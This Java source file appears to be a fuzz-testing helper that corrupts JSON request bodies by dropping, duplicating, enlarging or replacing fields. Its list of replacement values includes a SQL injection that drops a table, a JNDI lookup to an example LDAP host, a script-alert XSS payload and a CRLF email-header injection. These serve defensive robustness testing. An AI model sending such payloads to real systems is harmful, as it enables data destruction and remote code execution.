package za.lexohub.journeys;

import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Spoils a body in one place: a field is dropped, given twice, of another type, or enlarged. */
final class Mutation {

  private static final JsonMapper JSON = JsonMapper.builder().build();
  private static final String MARK = "\"§\"";

  /** What takes the place of a value, as it stands in the body. */
  private static final List<String> VALUES =
      List.of(
          "null",
          "true",
          "0",
          "-1",
          "1.5",
          "1e400",
          "1e-400",
          "9000000000000000000",
          "1000000000000",
          "99999999999999999999999999",
          "-9223372036854775808",
          "2147483648",
          "\"\"",
          "\" \"",
          "\"1\"",
          "\"a\\u0000b\"",
          "\"\\ud800\"",
          "\"\\udc00\\ud800\"",
          "\"\\uffff\\ufeff\\u202e\\u2028\"",
          "\"\uD83D\uDE00 e\u0301 \u0E01\u0E33\"",
          "\"a\\r\\nBcc: x@y.example\"",
          "\"' or 1=1; drop table event_log --\"",
          "\"${jndi:ldap://x.example/a} #{1+1} <script>alert(1)</script>\"",
          "\"x@\"",
          "\"0000-13-45\"",
          "\"0000-01-01\"",
          "\"-999999999-01-01\"",
          "\"+999999999-12-31\"",
          "\"9999-12-31\"",
          "\"1582-10-10\"",
          "\"9999-12-31T23:59:59.999999999Z\"",
          "\"+1000000000-12-31T23:59:59.999999999Z\"",
          "\"2024-09-01T10:00:00+18:00\"",
          "\"00000000-0000-0000-0000-000000000000\"",
          "\"1-1-1-1-1\"",
          "{}",
          "[]",
          "[[]]",
          "{\"amount\": 1, \"currency\": \"ZAR\"}",
          '"' + "x".repeat(201) + '"',
          '"' + "\uD83D\uDE00".repeat(100) + '"',
          '"' + "y ".repeat(2500) + '"',
          '"' + "z".repeat(99_000) + '"',
          "7".repeat(90),
          "0." + "3".repeat(90),
          "[".repeat(30) + "]".repeat(30));

  static String of(String body, RandomGenerator random) {
    JsonNode root = JSON.readTree(body);
    List<Spot> spots = new ArrayList<>();
    collect(root, spots);
    if (spots.isEmpty()) {
      return VALUES.get(random.nextInt(VALUES.size()));
    }
    Spot spot = spots.get(random.nextInt(spots.size()));
    return switch (random.nextInt(6)) {
      case 0 -> {
        spot.parent().remove(spot.field());
        yield root.toString();
      }
      case 1 -> twice(root, spot);
      case 2 -> enlarged(root, spot);
      default -> replaced(root, spot, VALUES.get(random.nextInt(VALUES.size())));
    };
  }

  private record Spot(ObjectNode parent, String field) {
    JsonNode value() {
      return parent.path(field);
    }
  }

  private static void collect(JsonNode node, List<Spot> spots) {
    if (node instanceof ObjectNode object) {
      object.propertyNames().forEach(field -> spots.add(new Spot(object, field)));
    }
    node.forEach(child -> collect(child, spots));
  }

  private static String twice(JsonNode root, Spot spot) {
    String pair = "\"" + spot.field() + "\":" + spot.value();
    return replaced(root, spot, spot.value() + "," + pair);
  }

  private static String enlarged(JsonNode root, Spot spot) {
    JsonNode value = spot.value();
    if (value instanceof ArrayNode array && !array.isEmpty()) {
      JsonNode first = array.get(0);
      int times = 40;
      for (int i = 0; i < times; i++) {
        array.add(first.deepCopy());
      }
      return root.toString();
    }
    return replaced(
        root, spot, value.isNumber() ? value + "0000" : '"' + value.asString("x").repeat(40) + '"');
  }

  private static String replaced(JsonNode root, Spot spot, String value) {
    spot.parent().put(spot.field(), "§");
    return root.toString().replace(MARK, value);
  }

  private Mutation() {}
}
